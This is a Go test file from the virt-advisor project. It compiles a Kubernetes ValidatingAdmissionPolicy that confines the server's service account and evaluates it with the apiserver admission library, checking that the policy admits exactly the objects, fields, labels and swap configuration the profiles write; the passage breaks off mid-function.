// Package deploy holds the deployment manifests of virt-advisor. Its tests
// check the admission policy that confines the server's own identity
// (05-admission-policy.yaml): its CEL is compiled and evaluated with the
// admission library kube-apiserver runs, against the writes the profiles
// make and the ones they never make, and its names, fields and swap
// configuration against the profiles. `go test ./artifacts/deploy -update`
// regenerates the swap configuration from pkg/profiles/higherdensity.
package deploy

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/google/cel-go/cel"
	admissionv1 "k8s.io/api/admissionregistration/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apiserver/pkg/admission"
	plugincel "k8s.io/apiserver/pkg/admission/plugin/cel"
	"k8s.io/apiserver/pkg/admission/plugin/policy/validating"
	"k8s.io/apiserver/pkg/admission/plugin/webhook/matchconditions"
	rulematch "k8s.io/apiserver/pkg/admission/plugin/webhook/predicates/rules"
	celconfig "k8s.io/apiserver/pkg/apis/cel"
	"k8s.io/apiserver/pkg/authentication/user"
	"k8s.io/apiserver/pkg/cel/environment"
	"sigs.k8s.io/yaml"

	"github.com/kubevirt/virt-advisor/pkg/kubevirt"
	"github.com/kubevirt/virt-advisor/pkg/machineconfig"
	"github.com/kubevirt/virt-advisor/pkg/profiles"
	"github.com/kubevirt/virt-advisor/pkg/profiles/catalog"
)

var update = flag.Bool("update", false, "regenerate the swap configuration in "+policyFile+" from the profile")

const (
	policyFile = "05-admission-policy.yaml"
	// serverUser is the service account of 01-serviceaccount.yaml.
	serverUser = "system:serviceaccount:virt-advisor:virt-advisor-apiserver"
)

// readManifests decodes the documents of a manifest file.
func readManifests(t testing.TB, file string) []map[string]interface{} {
	t.Helper()
	raw, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var docs []map[string]interface{}
	for _, doc := range regexp.MustCompile(`(?m)^---\s*$`).Split(string(raw), -1) {
		var m map[string]interface{}
		if err := yaml.Unmarshal([]byte(doc), &m); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if m != nil {
			docs = append(docs, m)
		}
	}
	return docs
}

func readPolicy(t testing.TB) (*admissionv1.ValidatingAdmissionPolicy, *admissionv1.ValidatingAdmissionPolicyBinding) {
	t.Helper()
	policies, bindings := readPolicies(t)
	return policies[0], bindings[0]
}

// readPolicies are the policies and bindings of the file in their order:
// first the policy with every rule and its binding, then those per
// resource.
func readPolicies(t testing.TB) ([]*admissionv1.ValidatingAdmissionPolicy, []*admissionv1.ValidatingAdmissionPolicyBinding) {
	t.Helper()
	var policies []*admissionv1.ValidatingAdmissionPolicy
	var bindings []*admissionv1.ValidatingAdmissionPolicyBinding
	for _, doc := range readManifests(t, policyFile) {
		var into interface{}
		switch doc["kind"] {
		case "ValidatingAdmissionPolicy":
			policy := &admissionv1.ValidatingAdmissionPolicy{}
			policies = append(policies, policy)
			into = policy
		case "ValidatingAdmissionPolicyBinding":
			binding := &admissionv1.ValidatingAdmissionPolicyBinding{}
			bindings = append(bindings, binding)
			into = binding
		default:
			t.Fatalf("%s: unexpected kind %v", policyFile, doc["kind"])
		}
		if err := runtime.DefaultUnstructuredConverter.FromUnstructuredWithValidation(doc, into, true); err != nil {
			t.Fatalf("%s: %v", policyFile, err)
		}
	}
	if len(policies) == 0 || len(bindings) != len(policies) {
		t.Fatalf("%s must hold ValidatingAdmissionPolicies with a binding each", policyFile)
	}
	return policies, bindings
}

// compile builds the policy's validator as kube-apiserver's
// ValidatingAdmissionPolicy plugin does (validating.compilePolicy).
func compile(t testing.TB, p *admissionv1.ValidatingAdmissionPolicy) validating.Validator {
	t.Helper()
	vars := plugincel.OptionalVariableDeclarations{HasAuthorizer: true}
	messageVars := plugincel.OptionalVariableDeclarations{}
	compiler, err := plugincel.NewCompositedCompiler(environment.MustBaseEnvSet(environment.DefaultCompatibilityVersion()))
	if err != nil {
		t.Fatal(err)
	}
	var variables []plugincel.NamedExpressionAccessor
	for _, v := range p.Spec.Variables {
		variables = append(variables, &validating.Variable{Name: v.Name, Expression: v.Expression})
	}
	compiler.CompileAndStoreVariables(variables, vars, environment.StoredExpressions)
	var conditions []plugincel.ExpressionAccessor
	for i := range p.Spec.MatchConditions {
		conditions = append(conditions, (*matchconditions.MatchCondition)(&p.Spec.MatchConditions[i]))
	}
	matcher := matchconditions.NewMatcher(compiler.CompileCondition(conditions, vars, environment.StoredExpressions), p.Spec.FailurePolicy, "policy", "validate", p.Name)
	validations := make([]plugincel.ExpressionAccessor, len(p.Spec.Validations))
	messages := make([]plugincel.ExpressionAccessor, len(p.Spec.Validations))
	for i, v := range p.Spec.Validations {
		validations[i] = &validating.ValidationCondition{Expression: v.Expression, Message: v.Message, Reason: v.Reason}
		if v.MessageExpression != "" {
			messages[i] = &validating.MessageExpressionCondition{MessageExpression: v.MessageExpression}
		}
	}
	return validating.NewValidator(
		compiler.CompileCondition(validations, vars, environment.StoredExpressions),
		matcher,
		compiler.CompileCondition(nil, vars, environment.StoredExpressions),
		compiler.CompileCondition(messages, messageVars, environment.StoredExpressions),
		p.Spec.FailurePolicy, nil)
}

// request is one write to the main cluster.
type request struct {
	user        string // serverUser if empty
	op          admission.Operation
	gvr         schema.GroupVersionResource
	subresource string
	obj, old    *unstructured.Unstructured
}

// deployed are the policies of the file as kube-apiserver applies them,
// each to the requests its rules match, and the policy with every rule
// (the first) as a reference applied to every request. unfused are the
// policies per resource before their rules were fused (fused_test.go),
// each with the resource it matches.
type deployed struct {
	policies   []*admissionv1.ValidatingAdmissionPolicy
	validators []validating.Validator
	reference  validating.Validator
	unfused    []unfusedPolicy
}

type unfusedPolicy struct {
	policy    *admissionv1.ValidatingAdmissionPolicy
	validator validating.Validator
}

// compiled are the policies of the file compiled once: their match
// conditions are large, and the validators are only read.
var compiled struct {
	sync.Once
	*deployed
}

func compileDeployed(t testing.TB) *deployed {
	t.Helper()
	compiled.Do(func() { compiled.deployed = compileAll(t) })
	if compiled.deployed == nil {
		t.Fatal("the policies did not compile")
	}
	return compiled.deployed
}

func compileAll(t testing.TB) *deployed {
	t.Helper()
	policies, _ := readPolicies(t)
	d := &deployed{policies: policies}
	for _, p := range policies {
		d.validators = append(d.validators, compile(t, p))
	}
	d.reference = d.validators[0]
	for _, p := range perResource(t, policies[0]) {
		d.unfused = append(d.unfused, unfusedPolicy{p, compile(t, p)})
	}
	return d
}

// review evaluates the policies on a request as kube-apiserver would:
// "" when admitted, else the denial it reports (evaluation errors, which
// failurePolicy Fail turns into denials, included). The policies
// deployed must decide as the policy with every rule does by itself, and
// as the policy per resource did before its rules were fused; which rules
// of that one denied is recorded (TestMain checks that each did).
func review(t *testing.T, d *deployed, r request) string {
	t.Helper()
	got := d.review(r)
	if want := reviewBy(d.reference, r); words(got) != words(want) {
		t.Errorf("%s %s %s: the policies deployed decide %q, the policy with every rule %q", r.op, r.gvr.Resource, r.subresource, got, want)
	}
	for _, u := range d.unfused {
		if !matches(u.policy.Spec.MatchConstraints, r) {
			continue
		}
		want, rules := firstDenial(u.validator, r)
		if words(got) != words(want) {
			t.Errorf("%s %s %s: the fused policy %s decides %q, its rules unfused %q", r.op, r.gvr.Resource, r.subresource, u.policy.Name, got, want)
		}
		decided.record(u.policy, rules)
	}
	return got
}

// review is the denials of the policies whose rules match r.
func (d *deployed) review(r request) string {
	var denials []string
	for i, p := range d.policies {
		if matches(p.Spec.MatchConstraints, r) {
			if denied := reviewBy(d.validators[i], r); denied != "" {
				denials = append(denials, denied)
			}
		}
	}
	return strings.Join(denials, "; ")
}

// words are the words of a denial, sorted: a message listing the keys of
// a map lists them in any order.
func words(denial string) string {
	w := strings.Fields(strings.ReplaceAll(denial, ",", " "))
	sort.Strings(w)
	return strings.Join(w, " ")
}

// matches is true when the policy's rules match r, by admission's own
// rule matching (the test's requests are all of cluster-wide rules: no
// namespace or object selector).
func matches(m *admissionv1.MatchResources, r request) bool {
	attrs := r.attributes()
	rule := func(rules []admissionv1.NamedRuleWithOperations) bool {
		for _, rl := range rules {
			if (&rulematch.Matcher{Rule: rl.RuleWithOperations, Attr: attrs}).Matches() {
				return true
			}
		}
		return false
	}
	return m != nil && rule(m.ResourceRules) && !rule(m.ExcludeResourceRules)
}

// attributes are r as admission sees it.
func (r request) attributes() admission.Attributes {
	if r.user == "" {
		r.user = serverUser
	}
	named := r.obj
	if named == nil {
		named = r.old
	}
	var obj, old runtime.Object
	if r.obj != nil {
		obj = r.obj
	}
	if r.old != nil {
		old = r.old
	}
	return admission.NewAttributesRecord(obj, old, named.GroupVersionKind(), named.GetNamespace(), named.GetName(), r.gvr, r.subresource, r.op, nil, false,
		&user.DefaultInfo{Name: r.user})
}

// reviewBy evaluates one policy on a request as kube-apiserver would
// once its rules matched: "" when admitted, else the denial it reports,
// the first (validating.dispatcher answers with the first denied
// decision).
func reviewBy(v validating.Validator, r request) string {
	denial, _ := firstDenial(v, r)
	return denial
}

// firstDenial is reviewBy's answer and the indices of the validations
// that deny (none when admitted).
func firstDenial(v validating.Validator, r request) (string, []int) {
	attrs := r.attributes()
	versioned := &admission.VersionedAttributes{Attributes: attrs, VersionedKind: attrs.GetKind(), VersionedObject: attrs.GetObject(), VersionedOldObject: attrs.GetOldObject()}
	result := v.Validate(context.Background(), r.gvr, versioned, nil, nil, celconfig.RuntimeCELCostBudget, nil)
	first := ""
	var denying []int
	for i, d := range result.Decisions {
		message := d.Message
		switch d.Action {
		case validating.ActionAdmit:
			continue
		case validating.ActionDeny:
		default:
			message = fmt.Sprintf("%s: %s", d.Action, d.Message)
		}
		if first == "" {
			first = message
		}
		denying = append(denying, i)
	}
	return first, denying
}

// literal evaluates a policy variable that is a literal (names, fields,
// the swap configuration) into Go values.
func literal(t testing.TB, p *admissionv1.ValidatingAdmissionPolicy, name string) interface{} {
	t.Helper()
	for _, v := range p.Spec.Variables {
		if v.Name != name {
			continue
		}
		env, err := cel.NewEnv()
		if err != nil {
			t.Fatal(err)
		}
		ast, iss := env.Compile(v.Expression)
		if iss.Err() != nil {
			t.Fatalf("variable %s: %v", name, iss.Err())
		}
		prg, err := env.Program(ast)
		if err != nil {
			t.Fatal(err)
		}
		out, _, err := prg.Eval(cel.NoVars())
		if err != nil {
			t.Fatalf("variable %s: %v", name, err)
		}
		native, err := out.ConvertToNative(reflect.TypeOf((*interface{})(nil)).Elem())
		if err != nil {
			t.Fatalf("variable %s: %v", name, err)
		}
		return normalize(native)
	}
	t.Fatalf("%s has no variable %s", policyFile, name)
	return nil
}

// normalize turns CEL's native maps and lists into the JSON-like values
// of unstructured objects.
func normalize(v interface{}) interface{} {
	rv := reflect.ValueOf(v)
	switch rv.Kind() {
	case reflect.Map:
		out := map[string]interface{}{}
		for _, k := range rv.MapKeys() {
			out[fmt.Sprint(normalize(k.Interface()))] = normalize(rv.MapIndex(k).Interface())
		}
		return out
	case reflect.Slice:
		out := make([]interface{}, rv.Len())
		for i := range out {
			out[i] = normalize(rv.Index(i).Interface())
		}
		return out
	case reflect.Int, reflect.Int32, reflect.Int64:
		return rv.Int()
	case reflect.Uint, reflect.Uint32, reflect.Uint64:
		return int64(rv.Uint())
	}
	if iv, ok := v.(interface{ Value() interface{} }); ok {
		return normalize(iv.Value())
	}
	return v
}

func TestPolicyAndBinding(t *testing.T) {
	policies, bindings := readPolicies(t)
	for i, policy := range policies {
		binding := bindings[i]
		if binding.Spec.PolicyName != policy.Name || binding.Name != policy.Name {
			t.Errorf("binding %s binds %s, want both named %s (the denial names both)", binding.Name, binding.Spec.PolicyName, policy.Name)
		}
		if !reflect.DeepEqual(binding.Spec.ValidationActions, []admissionv1.ValidationAction{admissionv1.Deny}) {
			t.Errorf("%s: validationActions %v, want [Deny]", binding.Name, binding.Spec.ValidationActions)
		}
		if binding.Spec.ParamRef != nil || binding.Spec.MatchResources != nil {
			t.Errorf("%s: the binding must apply the policy as it is, everywhere", binding.Name)
		}
		if fp := policy.Spec.FailurePolicy; fp == nil || *fp != admissionv1.Fail {
			t.Errorf("%s: failurePolicy %v, want Fail: an expression that cannot be evaluated must not let a write through", policy.Name, fp)
		}
		if i > 0 {
			// The policies per resource: the identity, then their rules
			// (guard).
			identity := "(" + oneLine(policies[0].Spec.MatchConditions[0].Expression) + ") && !("
			if c := policy.Spec.MatchConditions; len(c) != 1 || c[0].Name != guardName || !strings.HasPrefix(c[0].Expression, identity) {
				t.Errorf("%s: matchConditions %v, want one, %s, that starts with the identity of %s: the policies confine the same identity", policy.Name, c, guardName, policies[0].Name)
			}
		} else if len(policy.Spec.MatchConditions) != 1 {
			t.Errorf("%s: matchConditions %v, want one: the server's identity", policy.Name, policy.Spec.MatchConditions)
		}
		// kube-apiserver admits a match condition that compiles without
		// the policy's variables.
		for _, c := range policy.Spec.MatchConditions {
			compiler := plugincel.NewCompiler(environment.MustBaseEnvSet(environment.DefaultCompatibilityVersion()))
			if result := compiler.CompileCELExpression((*matchconditions.MatchCondition)(&c), plugincel.OptionalVariableDeclarations{HasAuthorizer: true}, environment.NewExpressions); result.Error != nil {
				t.Errorf("%s: match condition %s: %v", policy.Name, c.Name, result.Error)
			}
		}
		if err := compile(t, policy).(interface{ CompileError() error }).CompileError(); err != nil {
			t.Errorf("%s: %v", policy.Name, err)
		}
	}
	// The service account the policy confines is the deployment's.
	var sa map[string]interface{}
	for _, doc := range readManifests(t, "01-serviceaccount.yaml") {
		if doc["kind"] == "ServiceAccount" {
			sa = doc
		}
	}
	meta := sa["metadata"].(map[string]interface{})
	if want := fmt.Sprintf("system:serviceaccount:%s:%s", meta["namespace"], meta["name"]); want != serverUser {
		t.Fatalf("serverUser %s, but 01-serviceaccount.yaml makes %s", serverUser, want)
	}
}

// TestAllowsWhatTheProfilesWrite: every write the profiles make, in every
// configuration, on the test environment's baseline objects and on
// objects an administrator made first, is admitted; so are the pool
// pauses and unpauses of the controller.
func TestAllowsWhatTheProfilesWrite(t *testing.T) {
	v := compileDeployed(t)
	admit := func(name string, r request) {
		t.Helper()
		if denied := review(t, v, r); denied != "" {
			t.Errorf("%s: denied: %s", name, denied)
		}
	}
	for _, hcoVersion := range []string{kubevirt.HCOVersionV1beta1, kubevirt.HCOVersionV1} {
		for _, crd := range deschedulerCRDs(t) {
			for _, vr := range variants() {
				if vr.profile.Metadata().Name != "load-aware-rebalancing" && crd != deschedulerCRDs(t)[0] {
					continue // only load-aware-rebalancing adapts to the descheduler level
				}
				c := newCluster(t, hcoVersion, crd)
				config := vr.profile.Metadata().Name
				for _, it := range items(t, vr, c) {
					name := fmt.Sprintf("%s (HCO %s, %s): %s", vr.name, hcoVersion, filepath.Base(crd), it.Name)
					gvr := gvrOf(it.Desired)
					if it.Absent {
						admit(name+": delete", request{op: admission.Delete, gvr: gvr, old: created(it.Desired, config)})
						continue
					}
					live, _ := c.Get(context.Background(), it.Desired.GroupVersionKind(), it.Desired.GetNamespace(), it.Desired.GetName())
					if live == nil { // a create, then the same apply again
						obj := created(it.Desired, config)
						admit(name+": create", request{op: admission.Create, gvr: gvr, obj: obj})
						admit(name+": apply again", request{op: admission.Update, gvr: gvr, obj: applied(obj, it.Desired), old: obj})
						// Someone else's object of that name: configured, never labelled ours.
						theirs := theirs(it.Desired)
						ours := it.Desired.DeepCopy()
						labels := ours.GetLabels()
						delete(labels, profiles.ManagedByLabel)
						ours.SetLabels(labels)
						admit(name+": configure an administrator's object", request{op: admission.Update, gvr: gvr, obj: applied(theirs, ours), old: theirs})
						continue
					}
					obj := applied(live, it.Desired)
					admit(name+": update", request{op: admission.Update, gvr: gvr, obj: obj, old: live})
					if it.Desired.GetKind() == "HyperConverged" && !strings.Contains(vr.name, "KSM") {
						// KSM turned off later: our ksmConfiguration is withdrawn.
						ksm := kubevirt.HCOFieldPath(hcoVersion, "ksmConfiguration")
						admit(name+": withdraw KSM", request{op: admission.Update, gvr: gvr, obj: withdrawn(obj, ksm...), old: obj})
					}
				}
			}
		}
	}
	// An administrator's KubeDescheduler: values of theirs in fields and
	// maps of ours (kept where the profile does not set them, replaced
	// where it does).
	c := newCluster(t, kubevirt.HCOVersionV1beta1, filepath.Join("..", "crds", "kubedescheduler.yaml"))
	adminKD := readObject(t, filepath.Join("..", "testdata", "baseline.yaml"), "KubeDescheduler")
	set(adminKD.Object, "Predictive", "spec", "mode")
	set(adminKD.Object, []interface{}{"AffinityAndTaints", "SoftTopologyAndDuplicates", "CompactAndScale"}, "spec", "profiles")
	set(adminKD.Object, map[string]interface{}{"devLowNodeUtilizationThresholds": "High", "devEnableSoftTainter": false}, "spec", "profileCustomizations")
	set(adminKD.Object, map[string]interface{}{"total": int64(5000)}, "spec", "evictionLimits")
	c.put(adminKD)
	for _, vr := range variants() {
		if vr.profile.Metadata().Name != "load-aware-rebalancing" {
			continue
		}
		for _, it := range items(t, vr, c) {
			if it.Desired.GetKind() == "KubeDescheduler" {
				admit(vr.name+": an administrator's KubeDescheduler", request{op: admission.Update, gvr: kubeDeschedulers, obj: applied(adminKD, it.Desired), old: adminKD})
			}
		}
	}
	// The controller's pause of a pool for the coalescing window, and
	// its unpause (an apply without spec.paused and the annotation).
	for _, pool := range []string{"worker", "worker-cnv"} {
		old := readObject(t, filepath.Join("..", "testdata", "baseline.yaml"), "MachineConfigPool")
		old.SetName(pool)
		paused := edited(old, func(o map[string]interface{}) {
			set(o, true, "spec", "paused")
			set(o, "2026-01-01T00:00:31Z", "metadata", "annotations", machineconfig.PausedUntilAnnotation)
		})
		admit(pool+": pause", request{op: admission.Update, gvr: machineConfigPools, obj: paused, old: old})
		unpaused := withdrawn(paused, "spec", "paused")
		unstructured.RemoveNestedField(unpaused.Object, "metadata", "annotations", machineconfig.PausedUntilAnnotation)
		admit(pool+": unpause", request{op: admission.Update, gvr: machineConfigPools, obj: unpaused, old: paused})
		// The pause at the close of a maintenance window, mid-rollout,
		// and its end at the next opening.
		forWindow := edited(paused, func(o map[string]interface{}) {
			set(o, "weekend", "metadata", "annotations", machineconfig.PausedForAnnotation)
		})
		admit(pool+": pause for a window", request{op: admission.Update, gvr: machineConfigPools, obj: forWindow, old: old})
		resumed := withdrawn(forWindow, "spec", "paused")
		unstructured.RemoveNestedField(resumed.Object, "metadata", "annotations")
		admit(pool+": resume at the opening", request{op: admission.Update, gvr: machineConfigPools, obj: resumed, old: forWindow})
	}
}

// theirs is an object of the desired one's name that an administrator
// made: other labels and fields beside ours.
func theirs(desired *unstructured.Unstructured) *unstructured.Unstructured {
	o := &unstructured.Unstructured{Object: map[string]interface{}{
		"apiVersion": desired.GetAPIVersion(), "kind": desired.GetKind(),
		"metadata": map[string]interface{}{"name": desired.GetName(), "uid": "their-uid", "resourceVersion": "5", "generation": int64(1),
			"creationTimestamp": "2025-01-01T00:00:00Z", "labels": map[string]interface{}{"team": "platform"},
			"annotations": map[string]interface{}{"owner": "admin"}},
	}}
	if ns := desired.GetNamespace(); ns != "" {
		o.SetNamespace(ns)
	}
	switch desired.GetKind() {
	case "MachineConfig":
		labels := o.GetLabels()
		labels[machineconfig.RoleLabel] = desired.GetLabels()[machineconfig.RoleLabel]
		o.SetLabels(labels)
		o.Object["spec"] = map[string]interface{}{"kernelArguments": []interface{}{"admin=1"}, "fips": false}
	case "ConfigMap":
		o.Object["data"] = map[string]interface{}{"example-key": "by-hand", "other": "kept"}
	}
	return o
}

// profileTargets is what the profiles write, over every configuration.
type profileTargets struct {
	objects    map[string][]string // resource -> [namespace/]names
	templates  map[string][]string // resource -> names with profiles.PoolPlaceholder
	roles      map[string]string   // MachineConfig -> pool
	fields     map[string][]string // resource or resource:name -> managed fields (without "spec.")
	swapConfig map[string]interface{}
	ksmConfig  map[string]interface{} // the KSM zero-pages MachineConfig's spec.config
	// kernelArgs are the kernel arguments of each MachineConfig written,
	// by its declared name (Write.Name, with profiles.PoolPlaceholder).
	kernelArgs  map[string][][]interface{}
	exampleData []string
}

func collectTargets(t *testing.T) profileTargets {
	t.Helper()
	pt := profileTargets{objects: map[string][]string{}, roles: map[string]string{}, fields: map[string][]string{}, templates: map[string][]string{},
		kernelArgs: map[string][][]interface{}{}}
	kernelArgs := func(it profiles.Item, declared string) {
		if args, ok, _ := unstructured.NestedSlice(it.Desired.Object, "spec", "kernelArguments"); ok && !it.Absent {
			pt.kernelArgs[declared] = append(pt.kernelArgs[declared], args)
		}
	}
	add := func(list []string, v ...string) []string {
		for _, s := range v {
			if !contains(list, s) {
				list = append(list, s)
			}
		}
		return list
	}
	for _, hcoVersion := range []string{kubevirt.HCOVersionV1beta1, kubevirt.HCOVersionV1} {
		for _, crd := range deschedulerCRDs(t) {
			for _, vr := range variants() {
				for _, it := range items(t, vr, newCluster(t, hcoVersion, crd)) {
					d := it.Desired
					gvr := gvrOf(d)
					resource := gvr.Group + "/" + gvr.Resource
					key := d.GetName()
					if d.GetNamespace() != "" {
						key = d.GetNamespace() + "/" + key
					}
					fieldsKey := resource
					if template, pool, ok := poolTemplate(resource, key); ok {
						// Named after the pool it is for: its role is that pool.
						pt.templates[resource] = add(pt.templates[resource], template)
						if role := d.GetLabels()[machineconfig.RoleLabel]; role != pool {
							t.Errorf("%s: %s is for pool %s, its role label says %q", vr.name, key, pool, role)
						}
						pt.fields[fieldsKey+":"+template] = add(pt.fields[fieldsKey+":"+template], trimSpec(it.ManagedFields)...)
						kernelArgs(it, template)
						continue
					}
					pt.objects[resource] = add(pt.objects[resource], key)
					switch d.GetKind() {
					case "MachineConfig":
						pt.roles[d.GetName()] = d.GetLabels()[machineconfig.RoleLabel]
						fieldsKey += ":" + d.GetName()
					case "KubeletConfig":
						fieldsKey += ":" + d.GetName()
					}
					for _, f := range it.ManagedFields {
						pt.fields[fieldsKey] = add(pt.fields[fieldsKey], strings.TrimPrefix(f, "spec."))
					}
					switch {
					case it.Absent:
					case d.GetName() == "90-worker-kubelet-swap":
						pt.swapConfig, _, _ = unstructured.NestedMap(d.Object, "spec", "config")
					case d.GetName() == "90-worker-ksm-zero-pages":
						pt.ksmConfig, _, _ = unstructured.NestedMap(d.Object, "spec", "config")
					case d.GetKind() == "MachineConfig":
						kernelArgs(it, d.GetName())
					case d.GetKind() == "ConfigMap":
						for k := range d.Object["data"].(map[string]interface{}) {
							pt.exampleData = add(pt.exampleData, k)
						}
					}
				}
			}
		}
	}
	return pt
}

// poolTemplate is the declared name (with profiles.PoolPlaceholder) a
// written name fits, and the pool in it.
func poolTemplate(resource, name string) (template, pool string, ok bool) {
	for _, tpl := range catalogueWrites().templates[resource] {
		prefix, suffix := tpl.([]interface{})[0].(string), tpl.([]interface{})[1].(string)
		if strings.HasPrefix(name, prefix) && strings.HasSuffix(name, suffix) && len(name) > len(prefix)+len(suffix) {
			return prefix + profiles.PoolPlaceholder + suffix, name[len(prefix) : len(name)-len(suffix)], true
		}
	}
	return "", "", false
}

func trimSpec(fields []string) []string {
	out := make([]string, len(fields))
	for i, f := range fields {
		out[i] = strings.TrimPrefix(f, "spec.")
	}
	return out
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

func sameSet(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for _, s := range a {
		if !contains(b, s) {
			return false
		}
	}
	return true
}

func stringList(t *testing.T, v interface{}) []string {
	t.Helper()
	var out []string
	for _, s := range v.([]interface{}) {
		out = append(out, s.(string))
	}
	return out
}

// TestPolicyNamesWhatTheProfilesWrite: the objects, pools, fields,
// labels and annotations the policy allows are exactly those the
// profiles and the controller write, and the swap configuration is the
// profile's (regenerated with -update).
func TestPolicyNamesWhatTheProfilesWrite(t *testing.T) {
	policy, _ := readPolicy(t)
	pt := collectTargets(t)

	objects := literal(t, policy, "objects").(map[string]interface{})
	for resource, want := range pt.objects {
		if resource == "machineconfiguration.openshift.io/machineconfigpools" {
			continue
		}
		got, ok := objects[resource]
		if !ok || !sameSet(stringList(t, got), want) {
			t.Errorf("objects[%s] = %v, the profiles write %v", resource, got, want)
		}
	}
	if len(objects) != len(pt.objects) {
		t.Errorf("objects names %d resources, the profiles write %d: %v", len(objects), len(pt.objects), objects)
	}
	templates := literal(t, policy, "objectTemplates").(map[string]interface{})
	for resource, want := range pt.templates {
		var got []string
		for _, tpl := range templates[resource].([]interface{}) {
			got = append(got, tpl.([]interface{})[0].(string)+profiles.PoolPlaceholder+tpl.([]interface{})[1].(string))
		}
		if !sameSet(got, want) {
			t.Errorf("objectTemplates[%s] = %v, the profiles write %v", resource, got, want)
		}
	}
	roles := literal(t, policy, "machineConfigRoles").(map[string]interface{})
	if len(roles) != len(pt.roles) {
		t.Errorf("machineConfigRoles = %v, the profiles write %v", roles, pt.roles)
	}
	for name, role := range pt.roles {
		if roles[name] != role {
			t.Errorf("machineConfigRoles[%s] = %v, the profile writes it for pool %s", name, roles[name], role)
		}
	}

	ownSpec := literal(t, policy, "ownSpecByResource").(map[string]interface{})
	hco := "hco.kubevirt.io/hyperconvergeds"
	for key, want := range pt.fields {
		if key == hco || key == "/configmaps" {
			continue
		}
		if got, ok := ownSpec[key]; !ok || !sameSet(stringList(t, got), want) {
			t.Errorf("ownSpecByResource[%s] = %v, the profiles manage %v", key, got, want)
		}
	}
	checkHCOFields(t, pt.fields[hco], stringList(t, ownSpec[hco]))
	// The example ConfigMap's data is managed whole (the policy leaves
	// the data of that one ConfigMap free).
	if got := pt.fields["/configmaps"]; !sameSet(got, []string{"data"}) {
		t.Errorf("example-profile manages %v of its ConfigMap, the policy allows data", got)
	}
	if got := stringList(t, ownSpec["machineconfiguration.openshift.io/machineconfigpools"]); !sameSet(got, []string{"paused"}) {
		t.Errorf("ownSpecByResource[pools] = %v, the controller applies spec.paused only", got)
	}

	annotations := literal(t, policy, "ownAnnotationsByResource").(map[string]interface{})
	if got := stringList(t, annotations["machineconfiguration.openshift.io/machineconfigpools"]); !sameSet(got, []string{machineconfig.PausedUntilAnnotation, machineconfig.PausedForAnnotation, machineconfig.StepAnnotation, machineconfig.HaltAnnotation}) || len(annotations) != 1 {
		t.Errorf("ownAnnotationsByResource = %v, the controller sets %s, %s, %s and %s on pools only", annotations,
			machineconfig.PausedUntilAnnotation, machineconfig.PausedForAnnotation, machineconfig.StepAnnotation, machineconfig.HaltAnnotation)
	}
	labels := literal(t, policy, "ownLabelsByResource").(map[string]interface{})
	if got := stringList(t, labels["machineconfiguration.openshift.io/machineconfigs"]); !sameSet(got, []string{profiles.ManagedByLabel, machineconfig.RoleLabel}) {
		t.Errorf("own MachineConfig labels %v", got)
	}
	if got := stringList(t, labels["machineconfiguration.openshift.io/kubeletconfigs"]); !sameSet(got, []string{profiles.ManagedByLabel}) {
		t.Errorf("own KubeletConfig labels %v", got)
	}
	if got := stringList(t, labels["/configmaps"]); !sameSet(got, []string{profiles.ManagedByLabel}) || len(labels) != 3 {
		t.Errorf("own labels %v", labels)
	}
	checkKernelArguments(t, pt.kernelArgs)
	if pt.ksmConfig == nil || len(pt.kernelArgs["90-worker-thp-madvise"]) == 0 {
		t.Fatal("no example writes the KSM zero-pages and THP MachineConfigs: the policy's rules for them go untested")
	}

	// The swap configuration: exactly these three fields, pinned; the KSM
	// zero-pages configuration whole.
	if syncBlock(t, swapStart, swapBlock(t, pt.swapConfig, pt.ksmConfig)) {
		policy, _ = readPolicy(t)
	}
	for name, want := range map[string]interface{}{
		"ksmZeroPagesConfig":  pt.ksmConfig,
		"swapIgnitionVersion": pt.swapConfig["ignition"].(map[string]interface{})["version"],
		"swapFiles":           pt.swapConfig["storage"].(map[string]interface{})["files"],
		"swapUnits":           pt.swapConfig["systemd"].(map[string]interface{})["units"],
	} {
		if got := literal(t, policy, name); !reflect.DeepEqual(got, want) {
			t.Errorf("%s evaluates to\n%#v\nthe profile writes\n%#v", name, got, want)
		}
	}
}

// checkKernelArguments: a MachineConfig whose kernelArguments a profile
// writes declares their patterns (Write.KernelArguments, the policy's
// kernelArgumentPatterns), and every argument its examples write matches
// one of them.
func checkKernelArguments(t *testing.T, written map[string][][]interface{}) {
	t.Helper()
	declared := map[string][]string{}
	c := catalog.Default()
	for _, name := range c.Names() {
		p, _ := c.Get(name)
		for _, w := range p.Metadata().Writes {
			if w.Resource.Resource == "machineconfigs" && contains(w.Fields, "kernelArguments") {
				if len(w.KernelArguments) == 0 {
					t.Errorf("%s writes the kernelArguments of %s and declares no KernelArguments: the policy would confine none", name, w.Name)
				}
				declared[w.Name] = w.KernelArguments
			}
		}
	}
	for key, lists := range written {
		for _, args := range lists {
			for _, a := range args {
				if !slices.ContainsFunc(declared[key], func(p string) bool { return regexp.MustCompile(p).MatchString(a.(string)) }) {
					t.Errorf("MachineConfig %s gets kernel argument %v; its Write declares %v", key, a, declared[key])
				}
			}
		}
	}
}

// checkHCOFields: the policy leaves free the HyperConverged fields the
// catalogue declares it writes (under spec, and spec.virtualization in
// v1); the items manage those, the same in both versions, each whole or
// some of its keys (hcoConfined), not both.
func checkHCOFields(t *testing.T, managed, ownSpec []string) {
	t.Helper()
	declared := catalogueWrites().hcoFields
	if want := append(append([]string(nil), declared...), "virtualization"); !sameSet(ownSpec, want) {
		t.Errorf("ownSpecByResource[%s] = %v, the profiles declare %v", hcoResource, ownSpec, want)
	}
	v1beta1 := hcoManaged(t)
	var both []string
	for _, f := range v1beta1 {
		both = append(both, f, "virtualization."+f)
		top, sub, _ := strings.Cut(f, ".")
		switch {
		case !contains(declared, top):
			t.Errorf("an item manages %s of the HyperConverged; no profile declares a write of %s", f, top)
		case sub == "" && hasPrefixIn(v1beta1, top+"."):
			t.Errorf("an item manages %s of the HyperConverged whole, another some of its keys: the policy lets only those change", top)
		}
	}
	if !sameSet(managed, both) {
